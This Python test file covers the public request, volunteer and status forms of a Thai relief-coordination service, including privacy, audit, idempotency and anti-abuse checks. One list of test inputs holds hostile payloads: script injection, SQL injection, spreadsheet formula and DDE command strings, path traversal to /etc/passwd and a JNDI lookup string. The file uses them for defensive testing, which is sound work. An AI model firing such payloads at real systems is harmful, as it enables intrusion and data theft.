"""The forms that anybody may use: what is kept before it is acknowledged, and what is kept out."""

from __future__ import annotations

import html
import re
import shutil
import sqlite3
import stat
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlencode

import pytest

from jitasa_analytics import privacy
from jitasa_analytics.errors import UnknownError
from jitasa_analytics.service import references
from jitasa_analytics.service.audit import Audit
from jitasa_analytics.service.contacts import ContactFile, Contacts
from jitasa_analytics.service.intake import CATEGORY_OF, Ask, Intake, Offer, Person, Place, item_name
from jitasa_analytics.service.roles import NotAllowedError, User
from jitasa_analytics.service.web import robots
from jitasa_analytics.service.web.doors import Doors
from jitasa_analytics.store import Store
from tests.service.conftest import Served, Visitor

NAME, PHONE = "สมหญิง แก้วกาญจนา", "081-234-5678"
ASK = {"item": "boxed_meals", "many-boxed_meals": "๑๒", "urgency": "high", "people": "4", "tambon": "200104",
       "province": "20", "district": "2001", "name": NAME, "phone": PHONE, "address": "99/1 ซอยวัดใหม่",
       "words": "มีผู้ป่วยติดเตียง", "consent": "yes"}
OFFER = {"kind": "health_volunteer", "skill": "first_aid", "equipment": "motorcycle", "capacity": "3",
         "from": "2021-07-01", "to": "31/12/2564", "tambon": "200104", "province": "20", "district": "2001",
         "name": NAME, "phone": PHONE, "consent": "yes"}


@pytest.fixture(autouse=True)
def _at_once(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Tests type faster than people; how fast is too fast has a test of its own."""
    monkeypatch.setattr(robots, "FASTEST_SECONDS", 0.0)
    monkeypatch.setattr(robots, "MOST_OF_ADDRESS", {"form": 10_000, "status": 10_000})
    monkeypatch.setattr(robots, "MOST_OF_ALL", {"form": 10_000, "status": 10_000})
    yield


def ticket(visitor: Visitor, path: str) -> str:
    found = re.search(r'name="ticket" value="([^"]+)"', visitor.get(path)[2])
    assert found
    return found[1]


def send(visitor: Visitor, path: str, fields: dict[str, str], *, with_ticket: str | None = None
         ) -> tuple[int, dict[str, str], str]:
    text = ticket(visitor, path) if with_ticket is None else with_ticket
    return visitor.ask("POST", path, urlencode({"ticket": text, **fields}),
                       headers={"Content-Type": "application/x-www-form-urlencoded"})


def number(page: str) -> str:
    found = re.search(r'id="reference">([^<]+)<', page)
    assert found, page
    read = references.read(found[1])
    assert read
    return read


def test_a_request_is_in_the_store_and_its_contact_is_not(served: Served) -> None:
    visitor = served.visitor()
    status, _, page = send(visitor, "/ask", ASK | {"lon": "100.92", "lat": "13.29"})
    assert status == 201 and "ข้อมูลตัวอย่าง" in page
    assert "Sample data" in served.visitor().get("/status?lang=en")[2]
    reference = number(page)
    store = Store(served.store)
    store.settle()
    with store.snapshot("20") as s:
        row = s.sql("SELECT * FROM requests WHERE request_id = $id", id=reference).iloc[0]
        items = s.sql("SELECT * FROM request_items WHERE request_id = $id", id=reference)
        events = s.sql("SELECT * FROM request_events WHERE request_id = $id", id=reference)
    assert (row["urgency"], row["status"], row["people"], row["source"]) == ("high", "new", 4, "form")
    assert row["area_code"] == "200104" and (row["lon"], row["lat"]) == (100.92, 13.29)
    assert row["requester"] == privacy.token("0812345678", privacy.load_key(served.store))
    assert items[["item", "category", "quantity"]].to_numpy().tolist() == [["ข้าวกล่อง", "food", 12.0]]
    assert events["status"].tolist() == ["new"]
    contact = Contacts(store, User("coord", "coordinator", "20"), Audit(served.store)).of_request(reference)
    assert contact and (contact.name, contact.phone, contact.address, contact.words) == (
        NAME, PHONE, ASK["address"], ASK["words"])
    assert abs(datetime.now(UTC) - datetime.fromisoformat(contact.consent_at)).total_seconds() < 600
    for path in [*served.store.rglob("*"), *(p for p in Audit(served.store).folder.iterdir()
                                             if p.name != "contacts.sqlite")]:
        if path.is_file():
            content = path.read_bytes()
            assert not [w for w in (NAME, PHONE, "0812345678", ASK["words"], ASK["address"]) if w.encode() in content]


def test_a_volunteer_is_on_the_list(served: Served) -> None:
    status, _, page = send(served.visitor(), "/volunteer", OFFER)
    assert status == 201
    reference = number(page)
    store = Store(served.store)
    store.settle()
    with store.snapshot("20") as s:
        row = s.sql("SELECT * FROM volunteers WHERE volunteer_id = $id", id=reference).iloc[0]
    assert (row["kind"], row["skills"], row["equipment"], row["capacity_per_day"]) == (
        "health_volunteer", "first_aid", "motorcycle", 3.0)
    assert str(row["available_to"])[:10] == "2021-12-31" and str(row["consent_at"])[:4] == str(datetime.now(UTC).year)
    status, _, page = send(served.visitor(), "/status", {"number": references.shown(reference)})
    assert status == 200 and NAME not in page and PHONE not in page


def test_who_may_read_a_contact_and_that_it_is_written_down(served: Served) -> None:
    reference = number(send(served.visitor(), "/ask", ASK)[2])
    store, audit = Store(served.store), Audit(served.store)
    store.settle()
    for user, error in ((User("ana", "analyst", "TH"), NotAllowedError), (User("m", "ministry", "TH"), NotAllowedError),
                        (User("bangkok", "province", "10"), UnknownError)):
        with pytest.raises(error):
            Contacts(store, user, audit).of_request(reference)
    before = audit.verify().lines
    found = Contacts(store, User("siracha", "district", "2001"), audit).of_request(reference)
    assert found and found.name == NAME
    newest = audit.rows(last=1)[0]
    assert audit.verify().lines == before + 1
    assert (newest["who"], newest["what"], newest["detail"]["contact"]) == ("siracha", "read", reference)
    assert Contacts(store, User("coord", "coordinator", "20"), audit).known([reference, "R-none"]) == {reference}
    file = ContactFile(served.store).path
    assert stat.S_IMODE(file.stat().st_mode) == 0o600 and served.store not in file.parents


def test_erasing_a_person_erases_what_they_sent(tmp_path: Path, sample_store: Path) -> None:
    """By phone: the request's token, the volunteer's own number, and both contacts; others stay."""
    from jitasa_analytics.service import forget

    shutil.copytree(sample_store, tmp_path / "store")
    store = Store(tmp_path / "store")
    intake = Intake.of(store, Audit(store.folder))
    asked = intake.ask(WHO, WHERE, WHAT, seed="1").reference
    helps = intake.volunteer(WHO, WHERE, Offer("student"), seed="2").reference
    other = intake.ask(Person("มานี", "0898887766"), WHERE, WHAT, seed="3").reference
    store.settle()
    forget.erase(store, "+66 81 234 5678")
    with store.snapshot() as s:
        assert len(s.sql("SELECT 1 FROM volunteers WHERE volunteer_id = $id", id=helps)) == 0
        assert s.sql("SELECT count(*) AS n FROM requests WHERE request_id = $id AND requester IS NOT NULL",
                     id=asked)["n"].iloc[0] == 0
    assert intake.file.known([asked, helps, other]) == {other}
    assert b"1-234-5678" not in intake.file.path.read_bytes(), "deleted rows are overwritten"
    with pytest.raises(UnknownError):
        forget.erase(store, "+66 81 234 5678")


def test_the_state_is_told_and_nothing_else(served: Served) -> None:
    visitor = served.visitor()
    reference = number(send(visitor, "/ask", ASK)[2])
    status, _, page = send(visitor, "/status", {"number": references.shown(reference).lower()})
    assert status == 200 and "ใหม่" in page, "a request is found at once, before the next version holds it"
    Store(served.store).settle()
    from jitasa_analytics.service.requests import Requests

    Requests(Store(served.store), User("coord", "coordinator", "20"), Audit(served.store)).move(reference, "confirmed",
                                                                                              note="โทรแล้ว")
    _, headers, page = send(served.visitor(), "/status", {"number": reference})
    assert "ยืนยันแล้ว" in page and headers["cache-control"] == "no-store"
    for word in (NAME, PHONE, "200104", "แสนสุข", "โทรแล้ว", ASK["words"]):
        assert word not in page, word
    for wrong, code in (("R000001", 400), ("x" * 30, 400), (references.shown(references.fresh("request")), 404),
                        ("' OR 1=1 --", 400), (references.fresh("volunteer"), 404)):
        assert send(visitor, "/status", {"number": wrong})[0] == code, wrong


def test_a_form_sent_twice_is_one_request(served: Served) -> None:
    """Pressed twice, sent again after going back, or by a network that repeats: one row, one number."""
    visitor = served.visitor()
    same = ticket(visitor, "/ask")
    first = send(visitor, "/ask", ASK, with_ticket=same)
    Store(served.store).settle()
    from jitasa_analytics.service.requests import Requests

    work = Requests(Store(served.store), User("coord", "coordinator", "20"), Audit(served.store))
    work.move(number(first[2]), "confirmed")
    again = send(visitor, "/ask", ASK | {"people": "9"}, with_ticket=same)
    assert number(first[2]) == number(again[2]) and "ไม่ได้บันทึกซ้ำ" in again[2] and "ไม่ได้บันทึกซ้ำ" not in first[2]
    Store(served.store).settle()
    found = work.one(number(first[2]))
    assert (found["status"], found["people"]) == ("confirmed", 4), "the second sending changed what went on meanwhile"


def test_what_is_wrong_stands_at_its_field_and_nothing_is_lost(served: Served) -> None:
    visitor = served.visitor()
    for fields, field, words in (
            ({"phone": "12345"}, "phone", "เบอร์โทรศัพท์ไทย"), ({"phone": "1101700230708"}, "phone", "เบอร์โทรศัพท์ไทย"),
            ({"name": ""}, "name", "กรุณากรอกช่องนี้"), ({"people": "0"}, "people", "1 ถึง 10,000"),
            ({"people": "1e3"}, "people", "1 ถึง 10,000"), ({"urgency": "now"}, "urgency", "เลือกหนึ่งข้อ"),
            ({"item": "gold"}, "item", "อย่างน้อยหนึ่งข้อ"), ({"item": "anything", "words": ""}, "words", "กรุณาเขียน"),
            ({"consent": ""}, "consent", "ยินยอม"), ({"tambon": ""}, "place", "กรุณาบอกสถานที่"),
            ({"tambon": "209999"}, "place", "กรุณาเลือกจังหวัด"),
            ({"lon": "2.35", "lat": "48.85"}, "place", "นอกประเทศไทย"),
            ({"lon": "x", "lat": "y"}, "place", "นอกประเทศไทย"),
            ({"lon": "100.88", "lat": "12.93"}, "place", "แต่ท่านเลือก"),
            ({"many-boxed_meals": "-3"}, "many-boxed_meals", "1 ถึง 100,000"),
            ({"words": "ก" * 1001}, "words", "ไม่เกิน 1000"), ({"name": "ก" * 101}, "name", "ไม่เกิน 100")):
        status, _, page = send(visitor, "/ask", ASK | fields)
        assert status == 400, fields
        found = re.search(rf'id="{field}-wrong">([^<]+)<', page)
        assert found and words in found[1], (fields, found and found[1])
        assert f'aria-describedby="{field}-wrong"' in page
        kept = ASK | fields
        for name in ("name", "phone", "people"):
            assert f'value="{kept[name]}"' in page, (fields, name)
        assert ">" + kept["address"] + "</textarea>" in page
    _, _, page = send(visitor, "/ask?lang=en", ASK | {"phone": ""})
    assert "Please fill this in" in page and "กรุณา" not in re.sub(r"<option.*?</option>", "", page)
    for fields, field in (({"kind": ""}, "kind"), ({"capacity": "99"}, "capacity"), ({"from": "2021-13-01"}, "from"),
                          ({"to": "1/1/2564"}, "to")):
        status, _, page = send(visitor, "/volunteer", OFFER | fields)
        assert status == 400 and f'id="{field}-wrong"' in page, fields


def test_places_can_be_chosen_without_scripts(served: Served) -> None:
    visitor = served.visitor()
    same = ticket(visitor, "/ask")
    status, _, page = send(visitor, "/ask", {"more": "yes", "province": "20", "name": NAME}, with_ticket=same)
    assert status == 200 and '<option value="2001"' in page and f'value="{NAME}"' in page and "wrong" not in page
    _, _, page = send(visitor, "/ask", {"more": "yes", "province": "20", "district": "2001"}, with_ticket=same)
    assert '<option value="200104"' in page


def test_every_item_that_can_be_asked_for_has_words_and_the_sample_s_names() -> None:
    from data.sample import sample_words

    known = {name for rows in sample_words.ITEMS.values() for name, _, _ in rows}
    ours = {item_name(i) for i in CATEGORY_OF if i != "anything"}
    assert ours == known, "what the form and the files call a thing differs, so that sums by item fall apart"


# --- robots and other sites

@pytest.mark.parametrize("path", ["/ask", "/volunteer", "/status"])
def test_forged_and_foreign_tickets_are_refused(served: Served, path: str) -> None:
    fields = {"/ask": ASK, "/volunteer": OFFER, "/status": {"number": "x"}}[path]
    visitor, other = served.visitor(), served.visitor()
    mine, theirs = ticket(visitor, path), ticket(other, path)
    before = count(served)
    elsewhere = ticket(visitor, "/volunteer" if path == "/ask" else "/ask")
    signed = mine.split("|")
    for text in ("", "x", theirs, elsewhere, mine[:-1] + ("0" if mine[-1] != "0" else "1"), "|".join(signed[:-1]) + "|",
                 visitor.cookies["__Host-jitasa-form"], "2|1:0|10:1600000000|8:form-ask|4:eHh4|" + "0" * 64):
        assert send(visitor, path, fields, with_ticket=text)[0] == 403, text
    visitor.cookies.clear()
    assert send(visitor, path, fields, with_ticket=mine)[0] == 403, "without its cookie a ticket is nobody's"
    other = served.visitor()
    status, _, _ = other.ask("POST", path, urlencode({"ticket": ticket(other, path), **fields}), headers={
        "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://evil.example"})
    assert status == 403 and count(served) == before


def test_traps_haste_and_old_forms_lose_nothing_that_was_typed(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    visitor = served.visitor()
    before = count(served)
    same = ticket(visitor, "/ask")
    monkeypatch.setattr(robots, "FASTEST_SECONDS", 3600.0)
    status, _, page = send(visitor, "/ask", ASK, with_ticket=same)
    assert status == 400 and "ไม่แน่ใจว่าเป็นคน" in page and f'value="{NAME}"' in page
    monkeypatch.setattr(robots, "FASTEST_SECONDS", 0.0)
    status, _, page = send(visitor, "/ask", ASK | {"website": "http://buy.example"}, with_ticket=same)
    assert status == 400 and "buy.example" not in page and f'value="{NAME}"' in page
    monkeypatch.setattr(robots, "OPEN_SECONDS", -1)
    status, _, page = send(visitor, "/ask", ASK, with_ticket=same)
    assert status == 400 and "นานเกินสองชั่วโมง" in page and f'value="{NAME}"' in page
    assert count(served) == before
    monkeypatch.setattr(robots, "OPEN_SECONDS", 7200)
    fresh = re.search(r'name="ticket" value="([^"]+)"', page)
    assert fresh and send(visitor, "/ask", ASK, with_ticket=fresh[1])[0] == 201


def test_too_many_from_one_address_and_from_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    now = [1000.0]
    file = ContactFile(tmp_path / "store", clock=lambda: now[0])
    monkeypatch.setattr(robots, "MOST_OF_ADDRESS", {"form": 3})
    monkeypatch.setattr(robots, "MOST_OF_ALL", {"form": 7})

    def tries(address: str, times: int) -> list[bool]:
        return [robots.too_many(file, address, "form", b"key") for _ in range(times)]

    assert tries("10.0.0.1", 5) == [False, False, False, True, True]
    assert tries("10.0.0.2", 3) == [False, False, True], "all addresses together send too much"
    now[0] += robots.WINDOW_SECONDS + 1
    assert tries("10.0.0.1", 1) == [False]
    assert b"10.0.0" not in file.path.read_bytes(), "addresses are kept as keyed hashes"


def test_too_many_is_said_and_loses_nothing(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(robots, "MOST_OF_ADDRESS", {"form": 0, "status": 0})
    visitor = served.visitor()
    status, _, page = send(visitor, "/ask", ASK)
    assert status == 429 and f'value="{NAME}"' in page and "1669" in page
    assert send(visitor, "/status", {"number": "x"})[0] == 429


def test_large_and_strange_bodies(served: Served) -> None:
    visitor = served.visitor()
    head = {"Content-Type": "application/x-www-form-urlencoded"}
    before = count(served)
    for body, known in ((b"words=" + b"x" * 70_000, (400, 413)), (b"\xff\xfe=1", (400,)), (b"", (403,)),
                        (b"&".join(b"a%d=1" % i for i in range(1000)), (400,)), (b"[1,2]", (403,)),
                        (b"ticket=%00%00&item=\x00", (403,))):
        for path in ("/ask", "/volunteer", "/status"):
            try:
                status = visitor.ask("POST", path, body, headers=head)[0]
            except OSError:
                continue  # the server hung up on what is too large
            assert status in known, (path, body[:20], status)
    assert count(served) == before


EVIL = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; DROP TABLE requests; --",
        "=HYPERLINK(\"http://evil\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "{{7*7}}{% raw 1 %}", "../../etc/passwd",
        "\u202eevil\u202c", "%s%n${jndi:ldap://x}"]


def test_no_text_field_carries_anything_in(served: Served) -> None:
    """Through every field: shown as text where it comes back, and never in the store at all."""
    visitor, sent = served.visitor(), []
    ask, offer, look = (ticket(visitor, p) for p in ("/ask", "/volunteer", "/status"))
    for evil in EVIL:
        words = dict.fromkeys(("name", "address", "words"), evil)
        status, _, page = send(visitor, "/ask", ASK | words)
        assert status == 201
        sent.append(number(page))
        _, _, page = send(visitor, "/ask", ASK | words | {"phone": ""}, with_ticket=ask)
        clean(page)
        for name in words:
            assert html.unescape(shown(page, name)) == evil.replace("\u202e", "").replace("\u202c", "")
        for name in ("phone", "people", "urgency", "item", "tambon", "lon", "many-boxed_meals"):
            status, _, page = send(visitor, "/ask", ASK | {"lat": "13.3" if name == "lon" else "", name: evil},
                                   with_ticket=ask)
            assert status == 400, (name, evil)
            clean(page)
        for name in ("kind", "skill", "equipment", "capacity", "from", "to"):
            status, _, page = send(visitor, "/volunteer", OFFER | {name: evil}, with_ticket=offer)
            assert status == 400, name
            clean(page)
        status, _, page = send(visitor, "/status", {"number": evil}, with_ticket=look)
        assert status == 400
        clean(page)
    Store(served.store).settle()
    with Store(served.store).snapshot() as s:
        for table in ("requests", "request_items", "request_events"):
            rows = s.sql(f"SELECT * FROM {table} WHERE list_contains($ids, request_id)", ids=sent)
            assert set(rows["request_id"]) == set(sent) and not rows.astype(str).isin(EVIL).to_numpy().any()


def clean(page: str) -> None:
    for word in ("<script>alert", "<img src=x", "<script>alert(1)"):
        at = page.find(word)
        assert at < 0, page[max(0, at - 200):at + 60]


def shown(page: str, name: str) -> str:
    """What a field of the form shows."""
    found = re.search(rf'(?:name="{name}" value="([^"]*)"|name="{name}"[^>]*>([^<]*)</textarea>)', page)
    assert found, page
    return found[1] if found[1] is not None else found[2]


def count(served: Served) -> int:
    store = Store(served.store)
    store.settle()
    with store.snapshot() as s:
        return s.count("requests") + s.count("volunteers")


# --- written before it is acknowledged

WHO, WHERE, WHAT = Person(NAME, PHONE), Place("200104"), Ask([("rice", 5.0)])


@pytest.mark.parametrize("step", ["contact", "rows", "log"])
def test_whatever_breaks_in_between_ends_as_one_request(own_store: Path, monkeypatch: pytest.MonkeyPatch,
                                                        step: str) -> None:
    """Killed after any step, and sent again: the request is there once, with its contact, as it went on."""
    intake = Intake.of(Store(own_store), Audit(own_store))
    seed = f"{step}-{time.time_ns()}"

    class Killed(BaseException):
        pass

    def killed(*_: object, **__: object) -> None:
        raise Killed

    where: dict[str, tuple[object, str]] = {
        "contact": (Store, "append_together"), "rows": (Audit, "record"), "log": (ContactFile, "finish")}
    with monkeypatch.context() as broken, pytest.raises(Killed):
        broken.setattr(*where[step], killed)
        intake.ask(WHO, WHERE, WHAT, seed=seed)
    reference = references.made("request", intake._key(), seed)
    Store(own_store).settle()
    with Store(own_store).snapshot() as s:
        there = len(s.sql("SELECT 1 FROM requests WHERE request_id = $id", id=reference))
    assert there == (step != "contact")
    if there:  # somebody goes on with it before it is sent again
        from jitasa_analytics.service.requests import Requests

        Requests(Store(own_store), User("c", "coordinator", "20"), Audit(own_store)).move(reference, "confirmed")
    kept = Intake.of(Store(own_store), Audit(own_store)).ask(WHO, WHERE, WHAT, seed=seed)
    assert (kept.reference, kept.again) == (reference, False)
    Store(own_store).settle()
    with Store(own_store).snapshot() as s:
        rows = s.sql("SELECT status FROM requests WHERE request_id = $id", id=reference)
        items = s.sql("SELECT * FROM request_items WHERE request_id = $id", id=reference)
    assert rows["status"].tolist() == ["confirmed" if there else "new"] and len(items) == 1


def test_what_was_never_acknowledged_does_not_stay(tmp_path: Path) -> None:
    now = [1000.0]
    file = ContactFile(tmp_path / "store", clock=lambda: now[0])
    from jitasa_analytics.service.contacts import Contact

    file.begin(Contact("R1A", "request", NAME, PHONE))
    file.begin(Contact("R1B", "request", NAME, PHONE))
    file.finish("R1B")
    now[0] += 24 * 3600 + 1
    file.begin(Contact("R1C", "request", NAME, PHONE))
    assert file.known(["R1A", "R1B", "R1C"]) == {"R1B", "R1C"}
    with sqlite3.connect(file.path) as db:
        assert db.execute("SELECT count(*) FROM contacts").fetchone() == (2,)


def test_forms_are_off_unless_they_are_switched_on(open_server: Callable[[Path, Doors], Served], own_store: Path,
                                                   served: Served) -> None:
    shut = open_server(own_store, Doors("accounts"))
    for path in ("/ask", "/volunteer", "/status"):
        assert shut.visitor().get(path)[0] == 302 and shut.visitor("coord").get(path)[0] == 404
        assert served.visitor().get(path)[0] == 200
